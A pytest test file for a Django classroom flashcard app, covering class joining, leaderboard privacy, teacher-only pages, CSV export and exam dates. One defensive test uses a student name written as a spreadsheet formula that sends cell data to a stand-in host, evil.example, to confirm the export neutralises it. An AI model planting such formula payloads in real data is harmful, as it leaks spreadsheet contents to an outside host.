import csv
import io

import pytest
from django.urls import reverse

from decks.importers.csv import FORMULA_STARTS
from decks.models import CardState, StudentProfile
from tests.conftest import answer_card, make_class, make_deck, make_user

pytestmark = pytest.mark.django_db


def test_joining_by_code_shows_the_class_decks_on_the_home_page(client):
    newcomer = make_user("noor")
    make_class("Klas 1A", decks=[make_deck("Klant centraal", cards=1)], join_code="KLAS1AAA")
    client.force_login(newcomer)
    response = client.post(reverse("class_join"), {"code": "klas1aaa"}, follow=True)
    assert b"You joined Klas 1A" in response.content
    assert b"Klant centraal" in client.get(reverse("home")).content


def test_the_join_link_fills_in_the_code(client):
    client.force_login(make_user("noor"))
    response = client.get(reverse("class_join_code", args=["KLAS1AAA"]))
    assert b'value="KLAS1AAA"' in response.content


def test_the_join_link_asks_anonymous_visitors_to_log_in_first(client):
    response = client.get(reverse("class_join_code", args=["KLAS1AAA"]))
    assert response["Location"].startswith(reverse("login"))


def test_a_wrong_code_says_so_on_the_form(client):
    client.force_login(make_user("noor"))
    response = client.post(reverse("class_join"), {"code": "WRONG"})
    assert b"No class has that code" in response.content


def test_leaving_a_class_removes_its_decks_but_keeps_progress(client, student, classroom):
    deck = classroom.decks.get()
    answer_card(student=student, card=deck.cards.first(), rating=5, seen_reviews=0)
    client.force_login(student)
    client.post(reverse("class_leave", args=[classroom.pk]), {"confirm": "yes"})
    assert client.get(reverse("study", args=[deck.slug])).status_code == 404
    assert student.card_states.count() == 1


def test_a_student_of_another_class_gets_404_for_the_leaderboard(client, classroom):
    outsider = make_user("otto")
    make_class(students=[outsider])
    client.force_login(outsider)
    assert client.get(reverse("leaderboard", args=[classroom.pk])).status_code == 404
    assert client.get(reverse("class_detail", args=[classroom.pk])).status_code == 404


def test_the_leaderboard_refreshes_as_an_htmx_fragment(client, student, classroom):
    client.force_login(student)
    response = client.get(
        reverse("leaderboard", args=[classroom.pk]), headers={"HX-Request": "true"}
    )
    html = response.content.decode()
    assert "<html" not in html
    assert 'id="board"' in html
    assert "data-refresh-every" in html


def test_a_hidden_students_name_never_reaches_a_classmates_html(client, student, classroom):
    hidden = make_user("verstopt", first_name="Geheimnaam", last_name="Verborgen")
    StudentProfile.objects.create(
        user=hidden, display_name="Schuilnaam", hide_from_leaderboard=True
    )
    classroom.students.add(hidden)
    client.force_login(student)
    html = client.get(reverse("leaderboard", args=[classroom.pk]) + "?period=all").content.decode()
    for secret in ("Geheimnaam", "Verborgen", "Schuilnaam", "verstopt"):
        assert secret not in html
    assert "Anonymous student" in html


def test_my_row_changes_right_after_i_study(client, student, classroom):
    client.force_login(student)
    card = classroom.decks.get().cards.first()
    client.post(
        reverse("study_answer", args=[card.deck.slug]), {"card": card.pk, "rating": 5, "seen": 0}
    )
    response = client.get(reverse("leaderboard", args=[classroom.pk]))
    me = next(row for row in response.context["rows"] if row.is_viewer)
    assert (me.days, me.streak) == (1, 1)


def test_only_the_class_teacher_sees_progress_and_item_analysis(client, student, classroom):
    client.force_login(student)
    assert client.get(reverse("class_progress", args=[classroom.pk])).status_code == 404
    assert client.get(reverse("class_items", args=[classroom.pk])).status_code == 404
    client.force_login(classroom.teachers.get())
    assert client.get(reverse("class_progress", args=[classroom.pk])).status_code == 200
    assert client.get(reverse("class_items", args=[classroom.pk])).status_code == 200


def test_the_progress_page_exports_csv(client, student, classroom):
    answer_card(student=student, card=classroom.decks.get().cards.first(), rating=5, seen_reviews=0)
    client.force_login(classroom.teachers.get())
    response = client.get(reverse("class_progress", args=[classroom.pk]) + "?format=csv")
    text = response.content.decode("utf-8-sig")
    assert response["Content-Type"].startswith("text/csv")
    assert text.splitlines()[0].startswith("student,username,last studied,due,streak")
    assert "sam" in text


def test_a_student_name_written_as_a_formula_is_exported_as_text(client, classroom):
    hostile = make_user("mallory", first_name='=HYPERLINK("http://evil.example/?"&A1,"klik")')
    classroom.students.add(hostile)
    client.force_login(classroom.teachers.get())
    response = client.get(reverse("class_progress", args=[classroom.pk]) + "?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert """'=HYPERLINK("http://evil.example/?"&A1,"klik")""" in names
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row)


def test_a_teacher_regenerates_the_join_code(client, classroom):
    client.force_login(classroom.teachers.get())
    client.post(
        reverse("class_update", args=[classroom.pk]), {"action": "regenerate", "confirm": "yes"}
    )
    classroom.refresh_from_db()
    assert classroom.join_code != "KLAS1AAA"


def test_a_teacher_turns_joining_off_and_sets_an_exam_date(client, classroom):
    client.force_login(classroom.teachers.get())
    client.post(
        reverse("class_update", args=[classroom.pk]),
        {
            "name": "Klas 1A",
            "exam_date": "2099-01-20",
            "decks": [d.pk for d in classroom.decks.all()],
        },
    )
    classroom.refresh_from_db()
    assert not classroom.join_enabled
    assert str(classroom.exam_date) == "2099-01-20"
    assert classroom.decks.count() == 1


def test_saving_the_class_form_keeps_a_co_teachers_deck_it_does_not_offer(client, classroom):
    colleague = make_user("cor")
    theirs = make_deck("Rekenen", owner=colleague)
    classroom.teachers.add(colleague)
    classroom.decks.add(theirs)
    client.force_login(classroom.teachers.get(username="tess"))
    client.post(reverse("class_update", args=[classroom.pk]), {"name": "Klas 1A", "decks": []})
    assert list(classroom.decks.all()) == [theirs]


def test_setting_an_exam_on_the_class_form_brings_forward_the_students_cards(
    client, student, classroom
):
    card = classroom.decks.get().cards.first()
    answer_card(student=student, card=card, rating=5)
    CardState.objects.update(due="2099-12-01")
    client.force_login(classroom.teachers.get())
    client.post(
        reverse("class_update", args=[classroom.pk]),
        {"name": "Klas 1A", "exam_date": "2099-06-01", "decks": [classroom.decks.get().pk]},
    )
    assert str(CardState.objects.get().due) == "2099-05-31"


def test_a_student_cannot_change_a_class(client, student, classroom):
    client.force_login(student)
    response = client.post(reverse("class_update", args=[classroom.pk]), {"action": "regenerate"})
    assert response.status_code == 404


def test_students_see_an_exam_countdown_with_what_they_have_seen(client, student, classroom):
    classroom.exam_date = "2099-01-01"
    classroom.save()
    client.force_login(student)
    html = client.get(reverse("class_detail", args=[classroom.pk])).content.decode()
    assert "You have seen 0 of 2 cards" in html
